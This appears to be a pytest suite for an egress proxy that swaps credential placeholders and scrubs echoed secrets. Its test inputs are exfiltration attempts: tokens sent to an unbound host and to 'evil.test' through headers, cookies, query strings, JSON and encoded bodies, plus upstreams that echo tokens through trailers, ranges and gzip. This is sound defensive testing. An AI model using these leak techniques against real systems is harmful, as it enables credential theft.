"""Threat class 18, credential exfiltration, against the real gate: a placeholder sent where its
credential does not go, a real value echoed back, a value leaking into evidence or refusals.

The gate inspects ``allowed.test`` (where the credential is bound) and ``other.test`` (allowed, not
bound). Every refusal is proven at a counting upstream that records what it received: the request
never arrived. Every use is proven there too: the real value arrived, in the declared place only.
"""

from __future__ import annotations

import base64
import gzip
import json
import socket
import ssl
import time
from collections.abc import Iterator
from dataclasses import asdict
from typing import Any

import pytest

from proxy.core.decision import Reason, Verdict
from proxy.credentials.store import CredentialStore
from tests.credentials_harness import (
    GITHUB_TOKEN,
    EchoUpstream,
    credential_store,
    curl_through,
    gate_with_credentials,
)
from tests.dnsfake import FakeDns, loopback_dns
from tests.harness import WAIT, LocalCA, LoopbackServer, RunningGate, recv_head, serving

pytestmark = pytest.mark.timeout(120)

POLICY = """
version: 1
allow_internal: [127.0.0.0/8]
rules:
  - name: bound-api
    hosts: [allowed.test]
    ports: [{bound}, {chunky}, {packed}, {h2echo}]
    inspect: true
  - name: other-api
    hosts: [other.test]
    ports: [{other}]
    inspect: true
  - name: sockets
    hosts: [allowed.test, other.test]
    ports: [{bound}, {other}]
    methods: [GET]
    paths: [/socket]
    websocket: true
  - name: plain
    hosts: [allowed.test]
    ports: [80]
  - name: held-body
    hosts: [evil.test]
    ports: [{other}]
    methods: [POST]
    json_body: {{operation: download}}
"""


class ChunkyEcho(LoopbackServer):
    """A TLS upstream whose body echoes the Authorization header split across two writes (with a
    pause, so the gate sees two chunks), or gzip-compressed when ``packed``."""

    def __init__(self, tls: ssl.SSLContext, packed: bool = False, trailer: bool = False) -> None:
        self.tls = tls
        self.packed = packed
        self.trailer = trailer
        self.malformed = False
        self.reason = False
        self.field_name = False
        self.te_gzip = False
        self.ranges = 0  # requests that asked for a byte range
        self.requests = 0
        super().__init__(threaded=True, name="chunky-echo")

    def handle(self, conn: socket.socket) -> None:
        conn.settimeout(WAIT)
        with self.tls.wrap_socket(conn, server_side=True) as tls_conn:
            head = recv_head(tls_conn).decode("latin-1")
            if not head:
                return
            with self._lock:
                self.requests += 1
            auth = next(
                (line.split(":", 1)[1].strip() for line in head.split("\r\n")
                 if line.lower().startswith("authorization:")),
                "-",
            )  # fmt: skip
            body = f"token is [{auth}] end\n".encode()
            if self.packed:
                body = gzip.compress(body)
                tls_conn.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
                    + f"Content-Length: {len(body)}\r\n\r\n".encode()
                    + body
                )
                return
            wanted = next(
                (line.split("=", 1)[1] for line in head.split("\r\n")
                 if line.lower().startswith("range:") and "=" in line),
                None,
            )  # fmt: skip
            if wanted is not None:  # a byte range honoured, as a file server would
                with self._lock:
                    self.ranges += 1
                first, _, last = wanted.strip().partition("-")
                part = body[int(first) : int(last) + 1]
                tls_conn.sendall(
                    b"HTTP/1.1 206 Partial Content\r\n"
                    + f"Content-Range: bytes {first}-{last}/{len(body)}\r\n".encode()
                    + f"Content-Length: {len(part)}\r\n\r\n".encode()
                    + part
                )
                return
            if self.te_gzip:  # compressed as a transfer coding, not a content coding
                packed = gzip.compress(body)
                tls_conn.sendall(
                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
                    + f"{len(packed):x}\r\n".encode()
                    + packed
                    + b"\r\n0\r\n\r\n"
                )
                return
            if self.field_name:  # the token as a header field's name (a valid token character set)
                name = auth.split()[-1]
                tls_conn.sendall(
                    f"HTTP/1.1 200 OK\r\nX-{name}: 1\r\nContent-Length: 0\r\n\r\n".encode()
                )
                return
            if self.reason:  # the token in the status line's reason phrase
                tls_conn.sendall(
                    f"HTTP/1.1 401 rejected {auth}\r\nContent-Length: 0\r\n\r\n".encode()
                )
                return
            if self.malformed:  # a head no HTTP reader takes, the token in its bad line
                tls_conn.sendall(f"HTTP/1.1 200 OK\r\nbroken line {auth}\r\n\r\n".encode())
                return
            if self.trailer:  # gRPC-style: the error message, echoing the token, in a trailer
                tls_conn.sendall(
                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n"
                    + b"3\r\nok\n\r\n0\r\n"
                    + f"X-Echo: rejected {auth}\r\n\r\n".encode()
                )
                return
            tls_conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
            middle = body.index(b"[") + 10  # inside the token
            for part in (body[:middle], body[middle:]):
                tls_conn.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n")
                time.sleep(0.2)
            tls_conn.sendall(b"0\r\n\r\n")


class H2Echo(LoopbackServer):
    """A TLS upstream that speaks HTTP/2 only, as a gRPC service does: each answer is headers, one
    DATA frame, then trailers whose ``grpc-message`` quotes the request's Authorization header."""

    def __init__(self, tls: ssl.SSLContext) -> None:
        tls.set_alpn_protocols(["h2"])
        self.tls = tls
        self.requests = 0
        self.early_hint = False  # a 103 whose Link field quotes the header first
        self.field_name = False  # the token, lower-cased as HTTP/2 wants, as a field's name
        super().__init__(threaded=True, name="h2-echo")

    def handle(self, conn: socket.socket) -> None:
        import h2.config
        import h2.connection
        import h2.events

        conn.settimeout(WAIT)
        with self.tls.wrap_socket(conn, server_side=True) as tls_conn:
            if tls_conn.selected_alpn_protocol() != "h2":
                return
            server = h2.connection.H2Connection(
                h2.config.H2Configuration(client_side=False, header_encoding="utf-8")
            )
            server.initiate_connection()
            tls_conn.sendall(server.data_to_send())
            for _ in range(1000):  # frames of one short exchange; the peer closes first
                data = tls_conn.recv(65536)
                if not data:
                    return
                for event in server.receive_data(data):
                    if isinstance(event, h2.events.RequestReceived):
                        with self._lock:
                            self.requests += 1
                        auth = dict(event.headers).get("authorization", "-")
                        stream = event.stream_id
                        if self.early_hint:
                            hint = [(":status", "103"), ("link", f"</x>; rel=preload; a={auth}")]
                            server.send_headers(stream, hint)
                        fields = [(":status", "200"), ("content-type", "application/grpc")]
                        if self.field_name:
                            fields.append((f"x-{auth.split()[-1].lower()}", "1"))
                        server.send_headers(stream, fields)
                        server.send_data(stream, b"ok\n")
                        trailers = [("grpc-status", "16"), ("grpc-message", f"rejected {auth}")]
                        server.send_headers(stream, trailers, end_stream=True)
                tls_conn.sendall(server.data_to_send())


@pytest.fixture(scope="module")
def dns() -> Iterator[FakeDns]:
    yield from loopback_dns("allowed.test", "other.test", "evil.test")


@pytest.fixture(scope="module")
def bound(test_ca: LocalCA) -> Iterator[EchoUpstream]:
    yield from serving(EchoUpstream("bound", tls=test_ca.server_context()))


@pytest.fixture(scope="module")
def other(test_ca: LocalCA) -> Iterator[EchoUpstream]:
    yield from serving(EchoUpstream("other", tls=test_ca.server_context()))


@pytest.fixture(scope="module")
def chunky(test_ca: LocalCA) -> Iterator[ChunkyEcho]:
    yield from serving(ChunkyEcho(test_ca.server_context()))


@pytest.fixture(scope="module")
def packed(test_ca: LocalCA) -> Iterator[ChunkyEcho]:
    yield from serving(ChunkyEcho(test_ca.server_context(), packed=True))


@pytest.fixture(scope="module")
def h2echo(test_ca: LocalCA) -> Iterator[H2Echo]:
    yield from serving(H2Echo(test_ca.server_context()))


class Setup:
    def __init__(self, gate: RunningGate, store: CredentialStore, ports: dict[str, int]) -> None:
        self.gate = gate
        self.store = store
        self.ports = ports
        self.placeholder = store.credentials().placeholder("github", None) or ""
        self.other_sandbox = store.credentials().placeholder("github", "sbx-other") or ""

    def curl(self, url: str, *args: str) -> Any:
        return curl_through(self.gate, url, *args)


@pytest.fixture(scope="module")
def setup(
    tmp_path_factory: pytest.TempPathFactory,
    dns: FakeDns,
    bound: EchoUpstream,
    other: EchoUpstream,
    chunky: ChunkyEcho,
    packed: ChunkyEcho,
    h2echo: H2Echo,
    test_ca: LocalCA,
) -> Iterator[Setup]:
    directory = tmp_path_factory.mktemp("credentials")
    policy = POLICY.format(
        bound=bound.port,
        other=other.port,
        chunky=chunky.port,
        packed=packed.port,
        h2echo=h2echo.port,
    )
    (directory / "p.yaml").write_text(policy)
    store = credential_store(
        directory,
        [
            {
                "name": "github",
                "source": {"env": "EGRESS_SECURITY_TEST_TOKEN"},
                "hosts": [
                    f"allowed.test:{p}" for p in (bound.port, chunky.port, packed.port, h2echo.port)
                ],
                "header": "Authorization",
                "basic": True,
                "methods": ["GET"],
                "paths": ["/api/**"],
            }
        ],
        {"EGRESS_SECURITY_TEST_TOKEN": GITHUB_TOKEN},
    )
    store.issue(None)
    store.issue("sbx-other")
    gate = gate_with_credentials(directory, policy, dns.nameserver, test_ca, store)
    yield Setup(gate, store, {"bound": bound.port, "other": other.port})
    gate.stop()


@pytest.fixture(autouse=True)
def _reset(bound: EchoUpstream, other: EchoUpstream) -> None:
    bound.reset()
    other.reset()
    bound.bodies.clear()
    other.bodies.clear()


def _last_misuse(setup: Setup) -> Any:
    decisions = [d for d in setup.gate.memory.decisions if d.reason is Reason.CREDENTIAL_MISUSE]
    assert decisions, "no credential-misuse decision was recorded"
    return decisions[-1]


def _leaks(ph: str) -> list[tuple[str, list[str]]]:
    """(how, curl arguments) for the placeholder to other.test: header, URL, body, encoded."""
    basic_user = base64.b64encode(f"{ph}:x".encode()).decode()
    return [
        ("bearer", ["-H", f"Authorization: Bearer {ph}"]),
        ("custom header", ["-H", f"X-Api-Key: {ph}"]),
        ("basic password", ["-u", f"me:{ph}"]),
        ("basic user", ["-H", f"Authorization: Basic {basic_user}"]),
        ("cookie", ["-H", f"Cookie: session={ph}"]),
        ("query", ["--url-query", f"t={ph}"]),
        ("encoded query", ["--url-query", f"t={''.join(f'%{ord(c):02x}' for c in ph)}"]),
        ("form body", ["--data", f"leak={ph}"]),
        ("json body", ["--json", json.dumps({"token": ph})]),
        ("percent body", ["--data", "x=" + "".join(f"%{ord(c):02x}" for c in ph)]),
        ("http2", ["--http2", "-H", f"Authorization: Bearer {ph}"]),
    ]


@pytest.mark.parametrize("case", range(11))
def test_the_placeholder_to_another_host_never_arrives(
    setup: Setup, other: EchoUpstream, case: int
) -> None:
    how, args = _leaks(setup.placeholder)[case]
    result = setup.curl(f"https://other.test:{setup.ports['other']}/x", *args)
    assert result.status == 403, (how, result)
    assert result.headers["x-egress-reason"] == "credential-misuse"
    assert other.requests == [], how  # nothing arrived
    decision = _last_misuse(setup)
    assert decision.credential == "github" and decision.host == "other.test"
    assert f"allowed.test:{setup.ports['bound']}" in (decision.detail or "")
    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)


def test_the_placeholder_in_the_path_to_another_host_never_arrives(
    setup: Setup, other: EchoUpstream
) -> None:
    result = setup.curl(f"https://other.test:{setup.ports['other']}/{setup.placeholder}")
    assert result.status == 403 and other.requests == []
    assert _last_misuse(setup).host == "other.test"


def test_a_use_sends_the_real_value_only_in_the_declared_header(
    setup: Setup, bound: EchoUpstream
) -> None:
    url = f"https://allowed.test:{setup.ports['bound']}/api/user"
    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.placeholder}")
    assert result.status == 200, result
    assert [h["authorization"] for _, _, h in bound.requests] == [f"Bearer {GITHUB_TOKEN}"]
    assert bound.requests[0][2]["accept-encoding"] == "identity"
    # the echo (header and body) comes back as the placeholder
    assert result.headers["x-echo"] == f"Bearer {setup.placeholder}"
    assert f"authorization=Bearer {setup.placeholder}" in result.body
    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)
    used = [d for d in setup.gate.memory.decisions if d.credential == "github" and d.allowed]
    assert used and used[-1].reason is Reason.ALLOWED_BY_RULE


def test_basic_credentials_are_swapped_inside_the_encoding(
    setup: Setup, bound: EchoUpstream
) -> None:
    url = f"https://allowed.test:{setup.ports['bound']}/api/git"
    result = setup.curl(url, "-u", f"x-access-token:{setup.placeholder}")
    assert result.status == 200, result
    sent = bound.requests[0][2]["authorization"]
    assert base64.b64decode(sent.split()[1]).decode() == f"x-access-token:{GITHUB_TOKEN}"
    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)


@pytest.mark.parametrize(
    ("how", "args", "path"),
    [
        ("method", ["-X", "POST"], "/api/x"),
        ("path", [], "/gists"),
        ("ambiguous path", [], "/api/..%2fgists"),
        ("query on the bound host", ["--url-query", "q=PH"], "/api/x"),
        ("body on the bound host", ["--data", "comment=PH", "-X", "GET"], "/api/x"),
        ("second header on the bound host", ["-H", "X-Note: PH"], "/api/x"),
    ],
)
def test_outside_its_request_rules_or_carriers_the_credential_is_refused(
    setup: Setup, bound: EchoUpstream, how: str, args: list[str], path: str
) -> None:
    ph = setup.placeholder
    args = [a.replace("PH", ph) for a in args]
    url = f"https://allowed.test:{setup.ports['bound']}{path}"
    result = setup.curl(url, "-H", f"Authorization: Bearer {ph}", *args)
    assert result.status == 403, (how, result)
    assert result.headers["x-egress-reason"] == "credential-misuse"
    assert bound.requests == [], how
    assert GITHUB_TOKEN not in result.body


def test_another_sandboxs_placeholder_is_refused_on_the_bound_host(
    setup: Setup, bound: EchoUpstream
) -> None:
    url = f"https://allowed.test:{setup.ports['bound']}/api/user"
    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.other_sandbox}")
    assert result.status == 403 and bound.requests == []
    assert "another sandbox" in (_last_misuse(setup).detail or "")


def test_plain_http_never_carries_the_credential(setup: Setup, bound: EchoUpstream) -> None:
    result = setup.curl(
        f"http://allowed.test:{setup.ports['bound']}/api/x",
        "-H",
        f"Authorization: Bearer {setup.placeholder}",
    )
    assert result.status == 403
    assert "plain HTTP" in (_last_misuse(setup).detail or "")
    assert bound.accepted == 0


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_split_across_chunks_is_still_scrubbed(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """The whole body arrives, scrubbed: over HTTP/1.1 a chunk the scrubber held back whole was
    once written as an empty chunk, which ends a chunked body there."""
    url = f"https://allowed.test:{chunky.port}/api/echo"
    before = chunky.requests
    result = setup.curl(url, http, "-H", f"Authorization: Bearer {setup.placeholder}")
    assert result.status == 200, result
    assert chunky.requests == before + 1
    assert result.body == f"token is [Bearer {setup.placeholder}] end\n"


def test_a_compressed_echo_is_cut_off_not_passed_unread(setup: Setup, packed: ChunkyEcho) -> None:
    url = f"https://allowed.test:{packed.port}/api/echo"
    result = setup.curl(url, "-H", f"Authorization: Bearer {setup.placeholder}")
    assert packed.requests == 1
    assert result.returncode != 0 or result.status != 200
    assert GITHUB_TOKEN.encode() not in gzip_members(result.body)


def gzip_members(text: str) -> bytes:
    try:
        return gzip.decompress(text.encode("latin-1", "replace"))
    except (OSError, EOFError, ValueError):
        return text.encode("utf-8", "replace")


def test_a_failing_credential_step_refuses(
    setup: Setup, other: EchoUpstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    import proxy.core.checkpoint as checkpoint

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(checkpoint, "judge", broken)
    result = setup.curl(
        f"https://allowed.test:{setup.ports['bound']}/api/x",
        "-H",
        f"Authorization: Bearer {setup.placeholder}",
    )
    assert result.status == 403 and result.headers["x-egress-reason"] == "credential-misuse"


@pytest.mark.parametrize("step", ["bound_to", "swap"])
def test_a_failing_swap_or_scrub_mark_sends_nothing(
    setup: Setup, bound: EchoUpstream, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    """After the decision, the adapter marks a bound host's answer for scrubbing, then swaps in
    the value: either failing kills the request, so the value never goes out with its answer
    left unscrubbed (it went out before, and nothing was scrubbed)."""
    import addons.credentials as creds
    from proxy.core.credentials import Credentials

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    if step == "bound_to":
        monkeypatch.setattr(Credentials, "bound_to", broken)
    else:
        monkeypatch.setattr(creds, "swap", broken)
    result = setup.curl(
        f"https://allowed.test:{setup.ports['bound']}/api/x",
        "-H",
        f"Authorization: Bearer {setup.placeholder}",
    )
    assert result.returncode != 0 and not result.headers, result
    assert bound.requests == []  # nothing went out


def test_no_decision_ever_holds_the_real_value(setup: Setup) -> None:
    assert setup.gate.memory.decisions
    for decision in setup.gate.memory.decisions:
        assert GITHUB_TOKEN not in json.dumps(asdict(decision), default=str)
    refused = [d for d in setup.gate.memory.decisions if d.decision is Verdict.DENY]
    assert refused  # the tests above refused some


def test_a_body_held_for_a_rule_is_searched_before_anything_is_sent(
    setup: Setup, other: EchoUpstream
) -> None:
    url = f"https://evil.test:{setup.ports['other']}/batch"
    clean = setup.curl(url, "--json", json.dumps({"operation": "download"}))
    assert clean.status == 200 and len(other.requests) == 1  # the held path lets a clean body on
    leak = {"operation": "download", "token": setup.placeholder}
    result = setup.curl(url, "--json", json.dumps(leak))
    assert result.status == 403 and result.headers["x-egress-reason"] == "credential-misuse"
    assert len(other.requests) == 1 and setup.placeholder.encode() not in b"".join(other.bodies)
    decision = _last_misuse(setup)
    assert decision.rule == "held-body" and "not evil.test" in (decision.detail or "")


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_a_use_over_either_http_version_is_swapped_and_its_echo_scrubbed(
    setup: Setup, bound: EchoUpstream, http: str
) -> None:
    url = f"https://allowed.test:{setup.ports['bound']}/api/v"
    result = setup.curl(url, http, "-H", f"Authorization: token {setup.placeholder}")
    assert result.status == 200, result
    assert bound.requests[-1][2]["authorization"] == f"token {GITHUB_TOKEN}"
    assert result.headers["x-echo"] == f"token {setup.placeholder}"
    assert GITHUB_TOKEN not in result.body + json.dumps(result.headers)


def test_every_response_from_a_bound_host_is_scrubbed_not_only_swapped_ones(
    setup: Setup, bound: EchoUpstream
) -> None:
    """A service may store a header it was sent and show it later: here the upstream is made to
    show the real value without any placeholder in the request."""
    url = f"https://allowed.test:{setup.ports['bound']}/api/stored"
    result = setup.curl(url, "-H", f"Authorization: stored {GITHUB_TOKEN}")
    assert result.status == 200, result
    assert bound.requests[-1][2]["authorization"] == f"stored {GITHUB_TOKEN}"
    assert result.headers["x-echo"] == f"stored {setup.placeholder}"
    assert GITHUB_TOKEN not in result.body


def _real_in_base64(text: str) -> bool:
    """Whether any base64 (standard or URL-safe) run in ``text`` decodes to bytes holding the real
    value, or more than its first or last few characters."""
    import re

    middle = GITHUB_TOKEN[3:-3].encode()
    for run in re.findall(r"[A-Za-z0-9+/_=-]{8,}", text):
        for start in range(4):
            chunk = run[start:]
            chunk = chunk[: len(chunk) - len(chunk) % 4]
            for decode in (base64.b64decode, base64.urlsafe_b64decode):
                try:
                    if middle in decode(chunk + "=="):
                        return True
                except ValueError:
                    continue
    return False


@pytest.mark.parametrize("user", ["x", "xy", "x-access-token"])
def test_an_echo_of_basic_credentials_does_not_reveal_the_real_value(
    setup: Setup, bound: EchoUpstream, user: str
) -> None:
    """The gate put the real value inside Basic credentials, base64-encoded: a bound host that
    echoes the header (or stored it and shows it later) must not hand that encoding back. Each
    user name puts the value at another offset of the base64 groups."""
    url = f"https://allowed.test:{setup.ports['bound']}/api/git"
    result = setup.curl(url, "-u", f"{user}:{setup.placeholder}")
    assert result.status == 200, result
    sent = bound.requests[-1][2]["authorization"]
    assert base64.b64decode(sent.split()[1]).decode() == f"{user}:{GITHUB_TOKEN}"
    shown = result.body + json.dumps(result.headers)
    assert _real_in_base64(sent) and not _real_in_base64(shown), shown
    # what came back still reads as Basic credentials: the user, then the placeholder's middle
    echoed = base64.b64decode(result.headers["x-echo"].split()[1]).decode("latin-1")
    assert echoed.startswith(f"{user}:") and setup.placeholder[3:-3] in echoed


UPGRADE = (
    "-H", "Upgrade: websocket", "-H", "Connection: Upgrade",
    "-H", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "-H", "Sec-WebSocket-Version: 13",
)  # fmt: skip


def test_no_websocket_to_a_bound_host_even_without_a_placeholder(
    setup: Setup, bound: EchoUpstream, other: EchoUpstream
) -> None:
    """Its messages are not read: a value the service kept from an earlier request could come
    back over it unscrubbed. A rule's ``websocket: true`` still opens one where nothing is bound
    (the control: that upgrade reaches its upstream, which does not speak WebSocket)."""
    url = f"https://allowed.test:{setup.ports['bound']}/socket"
    result = setup.curl(url, "--http1.1", *UPGRADE)
    assert result.status == 403, result
    assert bound.requests == []  # nothing arrived
    assert "protocol upgrade" in (_last_misuse(setup).detail or "")
    control = setup.curl(f"https://other.test:{setup.ports['other']}/socket", "--http1.1", *UPGRADE)
    assert control.status != 403, control
    assert [(t, h.get("upgrade")) for _, t, h in other.requests] == [("/socket", "websocket")]


def _echoed(setup: Setup, chunky: ChunkyEcho, mode: str, *args: str) -> tuple[Any, str]:
    """One request to the bound echo answering in ``mode`` (one of its flags); what curl showed,
    every header block included (``-v``)."""
    before = chunky.requests
    setattr(chunky, mode, True)
    try:
        url = f"https://allowed.test:{chunky.port}/api/echo"
        result = setup.curl(url, "-v", *args, "-H", f"Authorization: Bearer {setup.placeholder}")
    finally:
        setattr(chunky, mode, False)
    assert chunky.requests == before + 1, result.stderr  # the service answered
    return result, result.body + json.dumps(result.headers) + result.stderr


def test_an_echo_in_an_http2_trailer_never_brings_the_real_value_back(
    setup: Setup, h2echo: H2Echo
) -> None:
    """A gRPC service answers over HTTP/2 and puts its error message, here quoting the token, in
    the trailers that end the stream: they arrive (gRPC needs its status), with the placeholder
    where the service wrote the real value."""
    before = h2echo.requests
    url = f"https://allowed.test:{h2echo.port}/api/echo"
    result = setup.curl(url, "--http2", "-H", f"Authorization: Bearer {setup.placeholder}")
    assert h2echo.requests == before + 1, result.stderr  # the request reached the service
    seen = result.body + json.dumps(result.headers) + result.stderr
    assert GITHUB_TOKEN not in seen, seen
    assert "grpc-status: 16" in result.body, seen  # curl writes trailers after the body
    assert f"grpc-message: rejected Bearer {setup.placeholder}" in result.body, seen


def test_an_echo_in_an_early_hint_never_brings_the_real_value_back(
    setup: Setup, h2echo: H2Echo
) -> None:
    """An informational answer (103 Early Hints) before the response, its Link field quoting the
    token. mitmproxy does not pass informational answers on today; whatever a later version does,
    the real value must not come back."""
    before = h2echo.requests
    h2echo.early_hint = True
    try:
        url = f"https://allowed.test:{h2echo.port}/api/echo"
        result = setup.curl(
            url, "--http2", "-v", "-H", f"Authorization: Bearer {setup.placeholder}"
        )
    finally:
        h2echo.early_hint = False
    assert h2echo.requests == before + 1, result.stderr  # the service answered, hint first
    seen = result.body + json.dumps(result.headers) + result.stderr  # -v: every header block
    assert GITHUB_TOKEN not in seen, seen
    assert "HTTP/2 200" in result.stderr, seen


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_as_a_header_name_never_comes_back(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """A field name may hold every character of a token: the name is scrubbed as its value is."""
    result, seen = _echoed(setup, chunky, "field_name", http)
    assert GITHUB_TOKEN not in seen and GITHUB_TOKEN.lower() not in seen, seen
    assert result.status == 200, seen


def test_an_echo_as_an_http2_header_name_never_comes_back(setup: Setup, h2echo: H2Echo) -> None:
    """HTTP/2 lower-cases field names: the value is found in a name in any case."""
    before = h2echo.requests
    h2echo.field_name = True
    try:
        url = f"https://allowed.test:{h2echo.port}/api/echo"
        result = setup.curl(url, "--http2", "-H", f"Authorization: Bearer {setup.placeholder}")
    finally:
        h2echo.field_name = False
    assert h2echo.requests == before + 1, result.stderr  # the service answered
    seen = result.body + json.dumps(result.headers) + result.stderr
    assert GITHUB_TOKEN.lower() not in seen.lower(), seen
    assert f"x-{setup.placeholder.lower()}" in result.headers, seen


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_compressed_as_a_transfer_coding_is_never_passed_unread(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """``Transfer-Encoding: gzip, chunked``: mitmproxy passed the compressed body on (curl with
    ``--tr-encoding`` read the token; over HTTP/2 the raw gzip arrived, for the agent to unpack).
    Cut off, as a compressed content coding is."""
    result, seen = _echoed(setup, chunky, "te_gzip", http, "--tr-encoding")
    assert GITHUB_TOKEN not in seen, seen
    assert result.returncode != 0 and "token is" not in result.body, seen  # cut off, unread


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_cut_into_byte_ranges_never_comes_back(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """The scrubber finds whole values: two ranges, each holding half the echoed token, each
    passed it (the first twenty characters of the real token came back as a 206). A bound host
    gets no Range: it sends the whole echo, which is scrubbed."""
    url = f"https://allowed.test:{chunky.port}/api/echo"
    auth = f"Authorization: Bearer {setup.placeholder}"
    start = len("token is [Bearer ")
    before, ranges = chunky.requests, chunky.ranges
    seen = ""
    for first, last in ((start, start + 19), (start + 20, start + 39)):
        result = setup.curl(url, http, "-v", "-H", auth, "-H", f"Range: bytes={first}-{last}")
        assert result.returncode == 0, result.stderr
        assert result.status == 200, result  # the whole body, not the range asked for
        seen += result.body + json.dumps(result.headers) + result.stderr
        assert result.body == f"token is [Bearer {setup.placeholder}] end\n", result
    assert chunky.requests == before + 2 and chunky.ranges == ranges  # no Range reached it
    assert GITHUB_TOKEN[:20] not in seen and GITHUB_TOKEN[20:] not in seen, seen


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_in_the_reason_phrase_never_comes_back(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """HTTP/1.1's status line carries a reason phrase, here quoting the token."""
    result, seen = _echoed(setup, chunky, "reason", http)
    assert GITHUB_TOKEN not in seen, seen
    assert result.status == 401, seen


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_in_a_malformed_answer_never_comes_back(
    setup: Setup, chunky: ChunkyEcho, http: str
) -> None:
    """A bound service answering with a head no reader takes, the token in its broken line:
    mitmproxy's error answer quoted that line (the real value, to the sandbox); the stream now
    ends without it."""
    result, seen = _echoed(setup, chunky, "malformed", http)
    assert GITHUB_TOKEN not in seen, seen
    assert result.returncode != 0 and not result.headers, seen  # the stream ended unanswered


@pytest.mark.parametrize("http", ["--http1.1", "--http2"])
def test_an_echo_in_a_trailer_is_scrubbed_too(setup: Setup, chunky: ChunkyEcho, http: str) -> None:
    """gRPC-style services put error messages (here, one quoting the token) in trailers."""
    chunky.trailer = True
    try:
        url = f"https://allowed.test:{chunky.port}/api/echo"
        result = setup.curl(url, http, "-H", f"Authorization: Bearer {setup.placeholder}")
    finally:
        chunky.trailer = False
    assert chunky.requests >= 1
    seen = result.body + json.dumps(result.headers) + result.stderr
    # Today the trailer is not passed on at all (the stream through the scrubber ends without
    # it); whatever a later mitmproxy does with trailers, the real value must not come back.
    assert GITHUB_TOKEN not in seen, seen
